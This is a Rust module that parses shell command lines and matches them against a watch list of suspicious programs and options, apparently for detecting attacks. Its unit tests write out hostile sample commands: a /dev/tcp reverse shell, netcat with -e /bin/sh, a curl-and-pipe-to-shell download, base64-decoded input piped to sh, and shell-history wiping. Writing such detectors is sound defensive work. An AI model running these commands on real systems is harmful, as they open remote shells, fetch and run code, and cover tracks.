//! Watch-list matching of command lines. A command line is cut into simple commands at shell
//! separators (`|`, `;`, `&&`, `(`, `` ` ``, `$(` …); a pattern's program must stand at a
//! command position (the first word, or after `sudo`/`env`/`nohup`/… or a shell's `-c`),
//! so `grep nc` does not match `nc`.

/// One watch-list entry, parsed.
pub(super) struct Pattern {
    pub text: String,
    kind: Kind,
}

enum Kind {
    /// `/dev/tcp`: anywhere in the line.
    Anywhere(String),
    Program {
        program: String,
        needles: Vec<String>,
    },
}

impl Pattern {
    /// Text that must appear (case-insensitively) in any line the pattern matches: a cheap
    /// test before cutting the line into words.
    pub fn key(&self) -> String {
        match &self.kind {
            Kind::Anywhere(s) => s.to_ascii_lowercase(),
            Kind::Program { program, .. } => program.clone(),
        }
    }

    pub fn parse(text: &str) -> Option<Pattern> {
        let words: Vec<&str> = text.split_whitespace().collect();
        let (first, rest) = words.split_first()?;
        let kind = if rest.is_empty() && first.contains('/') {
            Kind::Anywhere(first.to_string())
        } else {
            Kind::Program { program: first.to_ascii_lowercase(), needles: rest.iter().map(|s| s.to_string()).collect() }
        };
        Some(Pattern { text: words.join(" "), kind })
    }
}

const WRAPPERS: [&str; 13] = [
    "sudo", "doas", "env", "nohup", "exec", "xargs", "time", "nice", "timeout", "stdbuf", "setsid", "command",
    "busybox",
];
const SHELLS: [&str; 7] = ["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"];

/// A command line cut into simple commands, with each command position's program name
/// (lower-case base name) worked out once for all patterns.
pub(super) struct Line {
    pub text: String,
    pub segments: Vec<Segment>,
}

pub(super) struct Segment {
    pub words: Vec<String>,
    commands: Vec<(usize, String)>,
}

impl Line {
    pub fn new(text: String) -> Line {
        let segments = segments(&text)
            .into_iter()
            .map(|words| {
                let commands = command_positions(&words).into_iter().map(|p| (p, base(&words[p]))).collect();
                Segment { words, commands }
            })
            .collect();
        Line { text, segments }
    }
}

/// Splits a command line into simple commands of words (quotes removed).
fn segments(line: &str) -> Vec<Vec<String>> {
    let mut out: Vec<Vec<String>> = vec![Vec::new()];
    let mut word = String::new();
    let mut chars = line.chars().peekable();
    let mut quote: Option<char> = None;
    let flush = |word: &mut String, out: &mut Vec<Vec<String>>| {
        if !word.is_empty() {
            out.last_mut().expect("never empty").push(std::mem::take(word));
        }
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            // Quoted text is still split into words, so that `bash -c 'curl … | sh'` is seen.
            (Some(_), c) if c.is_whitespace() => flush(&mut word, &mut out),
            (Some(_), '|' | ';' | '&' | '`' | '(' | ')' | '\n') => {
                flush(&mut word, &mut out);
                out.push(Vec::new());
            }
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None, '\\') => {
                if let Some(n) = chars.next() {
                    word.push(n);
                }
            }
            (None, '$') if chars.peek() == Some(&'(') => {
                chars.next();
                flush(&mut word, &mut out);
                out.push(Vec::new());
            }
            (None, '|' | ';' | '&' | '`' | '(' | ')' | '\n') => {
                flush(&mut word, &mut out);
                out.push(Vec::new());
            }
            (None, c) if c.is_whitespace() => flush(&mut word, &mut out),
            (None, c) => word.push(c),
        }
    }
    flush(&mut word, &mut out);
    out.retain(|s| !s.is_empty());
    out
}

fn base(word: &str) -> String {
    word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase()
}

/// `python3.11` is `python`; `base64` stays `base64` (the pattern is compared first).
/// `b` is a lower-case base name.
fn same_program(b: &str, program: &str) -> bool {
    b == program
        || (b.starts_with(program)
            && program.chars().last().is_some_and(|c| c.is_ascii_alphabetic())
            && b[program.len()..].chars().all(|c| c.is_ascii_digit() || c == '.'))
}

/// Indexes of the words of a simple command that are commands.
fn command_positions(seg: &[String]) -> Vec<usize> {
    let mut pos = vec![0];
    let mut i = 0;
    while i < seg.len() {
        let b = base(&seg[i]);
        let next = if WRAPPERS.contains(&b.as_str()) {
            // The first later word that is neither an option nor an assignment.
            seg.iter().skip(i + 1).position(|w| !w.starts_with('-') && !w.contains('=')).map(|p| i + 1 + p)
        } else if SHELLS.contains(&b.as_str()) {
            seg.iter().skip(i + 1).position(|w| w == "-c").map(|p| i + 2 + p).filter(|&p| p < seg.len())
        } else {
            None
        };
        match next {
            Some(n) if n > i => {
                pos.push(n);
                i = n;
            }
            _ => break,
        }
    }
    pos
}

/// `-d` matches `-d` and `-di` (clustered short options); anything else is a substring.
fn needle_in(needle: &str, word: &str) -> bool {
    if needle.len() == 2 && needle.starts_with('-') && !needle.starts_with("--") {
        let letter = &needle[1..];
        return word.starts_with('-') && !word.starts_with("--") && word[1..].contains(letter);
    }
    word.contains(needle)
}

impl Pattern {
    /// The segment the pattern matches in (0 for patterns matching anywhere), if any.
    pub fn matches(&self, line: &Line) -> Option<usize> {
        match &self.kind {
            Kind::Anywhere(s) => line.text.contains(s.as_str()).then_some(0),
            Kind::Program { program, needles } => line.segments.iter().position(|seg| {
                seg.commands.iter().any(|(p, b)| {
                    same_program(b, program)
                        && needles.iter().all(|n| seg.words[p + 1..].iter().any(|w| needle_in(n, w)))
                })
            }),
        }
    }
}

/// True when the words name network targets and every one is the loopback.
pub(super) fn only_loopback(seg: &[String]) -> bool {
    let mut any = false;
    for w in seg.iter().skip(1) {
        if w.starts_with('-') || w.starts_with('/') {
            continue;
        }
        let Some(host) = host_of(w) else { continue };
        if !is_loopback(&host) {
            return false;
        }
        any = true;
    }
    any
}

/// The host a word names (`http://h:80/x`, `h:8080/x`, `user@h`, `10.0.0.1`), if it names one.
fn host_of(word: &str) -> Option<String> {
    let w = word.split_once("://").map_or(word, |(_, r)| r);
    let w = w.split(['/', '?', '#']).next()?;
    let w = w.rsplit_once('@').map_or(w, |(_, h)| h);
    let host = if let Some(r) = w.strip_prefix('[') {
        r.split(']').next()?.to_owned()
    } else {
        w.rsplit_once(':').filter(|(_, p)| p.chars().all(|c| c.is_ascii_digit())).map_or(w, |(h, _)| h).to_owned()
    };
    let h = host.to_ascii_lowercase();
    let looks_like_host = h == "localhost"
        || h.ends_with(".localhost")
        || h.parse::<std::net::IpAddr>().is_ok()
        || (h.contains('.') && h.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'))
        || word.contains("://");
    (looks_like_host && !h.is_empty()).then_some(h)
}

fn is_loopback(h: &str) -> bool {
    h == "localhost" || h.ends_with(".localhost") || h.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(p: &str, line: &str) -> bool {
        Pattern::parse(p).unwrap().matches(&Line::new(line.into())).is_some()
    }

    #[test]
    fn patterns() {
        assert!(hit("curl", "curl -s http://45.9.148.3/x.sh"));
        assert!(hit("curl", "bash -c 'curl -s http://x | sh'"));
        assert!(hit("curl", "sudo -E curl http://x"));
        assert!(!hit("nc", "grep nc /etc/services"));
        assert!(!hit("nc", "ncat -l 80"));
        assert!(hit("nc", "/usr/bin/nc -e /bin/sh 1.2.3.4 4444"));
        assert!(hit("base64 -d", "echo aGk= | base64 -d | sh"));
        assert!(hit("base64 -d", "base64 -di x"));
        assert!(!hit("base64 -d", "base64 x"));
        assert!(hit("rm .bash_history", "rm -f /home/ubuntu/.bash_history"));
        assert!(hit("history -c", "history -c && rm -f ~/.bash_history"));
        assert!(hit("chmod +s", "chmod u+s /tmp/x"));
        assert!(hit("python -c", "python3 -c 'import pty'"));
        assert!(!hit("python -c", "python3 manage.py"));
        assert!(hit("/dev/tcp", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert!(hit("bash -i", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert!(!hit("curl", "sudo -u postgres psql -c 'select 1'"));
    }

    #[test]
    fn loopback() {
        assert!(only_loopback(&segments("curl -s localhost:8080/healthz")[0]));
        assert!(only_loopback(&segments("curl http://127.0.0.1:9090/metrics")[0]));
        assert!(!only_loopback(&segments("curl -s http://45.9.148.3/x.sh")[0]));
        assert!(!only_loopback(&segments("wget example.com/x")[0]));
        assert!(!only_loopback(&segments("nc -l 4444")[0]));
    }
}
